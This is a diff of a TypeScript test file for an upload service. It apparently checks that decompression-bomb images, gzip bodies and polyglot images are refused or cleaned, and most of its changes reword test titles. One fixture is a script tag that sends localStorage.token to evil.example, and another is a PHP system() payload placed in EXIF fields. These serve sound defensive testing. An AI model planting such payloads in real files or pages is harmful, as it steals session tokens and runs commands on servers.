@@ -30,7 +30,7 @@ function chunk(name: string, content: Uint8Array): Buffer {
   return Buffer.concat([length, named, checksum]);
 }
 
-/** Of a PNG's header: bits, color, compression, filter, interlacing. */
+/** The last bytes of a PNG's header: bits, color, compression, filter, interlacing. */
 const GRAY = [8, 0, 0, 0, 0];
 const INTERLACED_RGBA_16 = [16, 6, 0, 0, 1];
 
@@ -50,14 +50,14 @@ function png(width: number, height: number, { kind = GRAY, others = [] as Buffer
   ]);
 }
 
-describe('an upload that is a bomb', () => {
+describe('an oversized upload', () => {
   it.each([
     [2_147_483_647, 1],
     [1, 2_147_483_647],
     [30_000, 30_000],
     [50_000_001, 1],
     [0, 0],
-  ])('of %i × %i pixels is refused by its header', async (width, height) => {
+  ])('of %i × %i pixels is refused when its header is read', async (width, height) => {
     expect([413, 415]).toContain((await upload(token, png(width, height))).status);
   });
 
@@ -82,12 +82,12 @@ describe('an upload that is a bomb', () => {
       () => png(65_536, 1),
       'The image is more than 65,535 pixels wide or high.',
     ],
-  ])('that %s, is refused by its header', async (_, make, message) => {
+  ])('that %s is refused when its header is read', async (_, make, message) => {
     const { status, body } = await upload(token, await make());
     expect([status, body]).toEqual([413, { message, code: 'body_too_large' }]);
   });
 
-  it('with 200 MB compressed in a comment does not take that much memory', async () => {
+  it('with 200 MB compressed in a comment does not use that much memory', async () => {
     const folded = Buffer.concat([
       Buffer.from('Comment\0\0', 'latin1'),
       deflateSync(Buffer.alloc(200_000_000), { level: 1 }),
@@ -98,7 +98,7 @@ describe('an upload that is a bomb', () => {
     expect(process.memoryUsage().rss - before).toBeLessThan(150_000_000);
   });
 
-  it('is not unpacked when it is a compressed body', async () => {
+  it('in a compressed body is not unpacked', async () => {
     const packed = gzipSync(JSON.stringify({ email: 'a@example.com', password: 'x' }));
     const answer = await call('POST', '/login', {
       body: packed.toString('latin1'),
@@ -107,18 +107,18 @@ describe('an upload that is a bomb', () => {
     expect(answer).toMatchObject({ status: 400, body: { code: 'malformed_body' } });
   });
 
-  it('of thousands of form fields may be no larger than a file', async () => {
+  it('of thousands of form fields is limited to the size of a file', async () => {
     const form = new FormData();
     for (let part = 0; part < 60_000; part += 1) form.append(`part-${part}`, 'x');
     expect((await call('POST', '/files/upload', { token, form })).status).toBe(413);
   });
 });
 
-describe('an upload that is two things at once', () => {
+describe('an upload in two formats', () => {
   const SCRIPT = '<script>fetch("https://evil.example/"+localStorage.token)</script>';
 
   it.each(['jpeg', 'png', 'webp'] as const)(
-    'a %s with a script in and after it is stored without',
+    'of a %s with a script inside and after it is stored without the script',
     async (format) => {
       const exif = { IFD0: { ImageDescription: SCRIPT, Artist: '<?php system("id") ?>' } };
       const bytes = await picture(64, 64).withExifMerge(exif).toFormat(format).toBuffer();
